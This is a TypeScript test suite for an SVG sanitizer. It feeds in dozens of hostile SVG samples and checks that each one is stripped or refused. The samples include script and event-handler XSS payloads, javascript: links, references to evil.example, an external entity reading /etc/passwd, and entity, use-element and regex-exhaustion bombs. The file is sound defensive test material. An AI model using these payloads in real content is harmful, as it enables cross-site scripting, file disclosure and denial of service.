import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { sanitizeSvg } from './sanitize-svg.ts';
import { SvgFault } from './svg-tree.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (content: string, attributes = '') =>
  `<svg ${NS} ${LINK} viewBox="0 0 10 10" ${attributes}>${content}<path d="M0 0h9"/></svg>`;

/** What must never be in the result, whatever the input is. */
const ACTIVE =
  /script|javascript|on\w+\s*=|foreignObject|<(?:image|style|iframe|embed|object|animate|set|handler|a|feImage)\b|https?:\/\/(?!www\.w3\.org\/2000\/svg")|data:|@import|expression|url\((?!#)|<!|<\?|&(?!amp;|lt;|gt;|quot;|#39;)/i;

/** Tricks that have worked against sanitizers; each is left out, and the path stays. */
const leftOut: Record<string, string> = {
  'a script': svg('<script>alert(1)</script>'),
  'a script by reference': svg('<script href="https://evil.example/x.js"/>'),
  'a script in another namespace': svg(
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">x</h:script>',
  ),
  'a script under a prefix of SVG': svg(
    `<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>`,
  ),
  'a script in capitals': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'an event handler': svg('<rect onclick="alert(1)" width="1" height="1"/>'),
  'an event handler of the root': svg('', 'onload="alert(1)"'),
  'an event handler with odd case': svg('<rect oNmOuSeOvEr="alert(1)" width="1" height="1"/>'),
  'an event handler split by entities': svg(
    '<rect on&#99;lick="x" width="1"/>'.replace('&#99;', 'c'),
  ),
  'HTML in a foreignObject': svg(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="x"/></foreignObject>',
  ),
  'an image of another host': svg(
    '<image href="https://evil.example/x.png" width="9" height="9"/>',
  ),
  'an image with data': svg('<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  'a use of another file': svg('<use href="https://evil.example/x.svg#a"/>'),
  'a use of data': svg('<use xlink:href="data:image/svg+xml,&lt;svg id=&quot;x&quot;/&gt;#x"/>'),
  'a link with a script': svg('<a xlink:href="javascript:alert(1)"><circle r="3"/></a>'),
  'a link with a script and a line break': svg(
    '<a href="java&#10;script:alert(1)"><circle r="3"/></a>',
  ),
  'an animation to a script': svg(
    '<a><animate attributeName="href" values="javascript:alert(1)"/><circle r="2"/></a>',
  ),
  'a set to a handler': svg('<set attributeName="onmouseover" to="alert(1)"/>'),
  'a style with an address': svg(
    '<rect style="fill:url(https://evil.example/x)" width="1" height="1"/>',
  ),
  'a style sheet that imports': svg(
    '<style>@import url(https://evil.example/x.css);.a{fill:red}</style><rect class="a" width="1" height="1"/>',
  ),
  'a style sheet with an address': svg('<style>.a{background:url("//evil.example")}</style>'),
  'a style sheet in CDATA': svg('<style><![CDATA[</style><script>alert(1)</script>]]></style>'),
  'an address with escapes': svg(
    '<rect fill="u\\72l(https://evil.example)" width="1" height="1"/>',
  ),
  'an address in a paint': svg('<rect fill="url(https://evil.example/#a)" width="1" height="1"/>'),
  'an address of a protocol': svg('<rect filter="url(javascript:alert(1))" width="1" height="1"/>'),
  'a font from elsewhere': svg(
    '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>',
  ),
  'a filter with an image': svg('<filter id="f"><feImage href="https://evil.example/x"/></filter>'),
  'a processing instruction': `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>${svg('')}`,
  'a comment': svg('<!-- <script>alert(1)</script> -->'),
  'base and lang tricks': svg('<g xml:base="https://evil.example/"><use href="#a"/></g>'),
  'text that looks like markup': svg('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>')
    .replace('script', 'scr')
    .replace('/script', '/scr'),
  'an attribute that breaks out': svg('<text font-family="a&quot; onload=&quot;alert(1)">x</text>'),
  'an id that breaks out': svg('<g id="&quot;&gt;&lt;img src=x&gt;"/>'),
  'a handler element': svg(
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  ),
  'an unknown element': svg('<discard/><cursor href="https://evil.example"/><video src="x"/>'),
  'a use that contains itself': svg('<g id="a"><use href="#a"/></g>'),
};

describe('a hostile SVG: it is left out', () => {
  for (const [trick, input] of Object.entries(leftOut)) {
    test(trick, () => {
      const { text } = sanitizeSvg(input);
      assert.doesNotMatch(text, ACTIVE);
      assert.match(text, /<path d="M0 0h9"><\/path><\/svg>$/);
    });
  }

  test('uses that would multiply into a billion shapes', () => {
    const row = (id: string, of: string) =>
      `<g id="${id}">${`<use href="#${of}"/>`.repeat(10)}</g>`;
    const bomb = svg(`<circle id="a" r="1"/>${row('b', 'a')}${row('c', 'b')}${row('d', 'c')}`);
    const uses = sanitizeSvg(bomb).text.match(/<use /g)!.length;
    assert.equal(uses, 10);
  });
});

describe('a hostile SVG: it is refused', () => {
  for (const [trick, input] of [
    ['a DOCTYPE', `<!DOCTYPE svg>${svg('')}`],
    [
      'an entity',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    ],
    [
      'entities that multiply',
      `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${svg('<text>&b;</text>')}`,
    ],
    ['an unknown entity', svg('<text>&nbsp;</text>')],
    ['an element that is not closed', svg('<g>')],
    ['an attribute without quotes', svg('<g id=a/>')],
    ['an attribute twice', svg('<rect width="1" width="2"/>')],
    ['two roots', svg('') + svg('')],
    ['HTML', `<html ${NS}><body>${svg('')}</body></html>`],
    ['no namespace', '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>'],
    ['the namespace of HTML', '<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 1 1"/>'],
    ['no size', `<svg ${NS}><path d="M0 0"/></svg>`],
    ['an enormous size', `<svg ${NS} width="1e9" height="99999999"><path d="M0 0"/></svg>`],
    ['nothing to draw', `<svg ${NS} viewBox="0 0 1 1"><script/></svg>`],
    ['deep nesting', svg('<g>'.repeat(1_000) + '</g>'.repeat(1_000))],
    ['many elements', svg('<g/>'.repeat(6_000))],
  ] as const) {
    test(trick, () => {
      assert.throws(() => sanitizeSvg(input), SvgFault);
    });
  }

  test('values that would let a pattern try very many ways are answered at once', () => {
    const digits = '9'.repeat(90_000);
    const spaces = ' '.repeat(30_000);
    const begun = process.cpuUsage();
    for (const value of [digits, `translate(1)${spaces}x`, `url(${spaces}x`, `#${digits}`]) {
      sanitizeSvg(svg(`<rect width="${value}" transform="${value}" fill="${value}"/>`));
    }
    assert.throws(() => sanitizeSvg(`<svg ${NS} width="1${spaces}x" height="1"/>`), SvgFault);
    const { user, system } = process.cpuUsage(begun);
    assert.ok(user + system < 2_000_000, `${user + system} µs`);
  });
});

describe('a logo of a drawing program keeps its look', () => {
  test('classes and styles become attributes', () => {
    const { text, width, height, removed } = sanitizeSvg(
      `<?xml version="1.0" encoding="utf-8"?>
      <svg ${NS} version="1.1" width="120px" height="32px" xml:space="preserve" data-name="Layer 1">
        <metadata>made by hand</metadata>
        <defs><style>.st0{fill:#0B6B53;opacity:.9} .st0,#b{stroke:#fff}</style>
        <linearGradient id="g"><stop offset="0" style="stop-color:#fff"/></linearGradient></defs>
        <g class="st0" transform="translate(1 2) rotate(45)"><path id="b" d="M1,2 L3 4z"/></g>
        <rect fill="url(#g)" width="1" height="1" style="mask: url('#m')"/>
        <text x="1" font-family="'Open Sans', sans-serif">Käse &amp; Co</text>
      </svg>`,
    );
    assert.deepEqual([width, height], [120, 32]);
    assert.match(
      text,
      /^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg" width="120" height="32" viewBox="0 0 120 32"/,
    );
    assert.match(
      text,
      /<g transform="translate\(1 2\) rotate\(45\)" fill="#0B6B53" opacity="\.9" stroke="#fff">/,
    );
    assert.match(text, /<path id="b" d="M1,2 L3 4z" stroke="#fff">/);
    assert.match(text, /<stop offset="0" stop-color="#fff">/);
    assert.match(text, /<rect fill="url\(#g\)" width="1" height="1" mask="url\(#m\)">/);
    assert.match(text, /Käse &amp; Co/);
    assert.doesNotMatch(text, /class|style=|metadata/);
    assert.deepEqual(removed, ['data-name']);
  });

  test('what is safe is not changed by a second time', () => {
    const once = sanitizeSvg(leftOut['a link with a script']!).text;
    assert.equal(sanitizeSvg(once).text, once);
  });
});
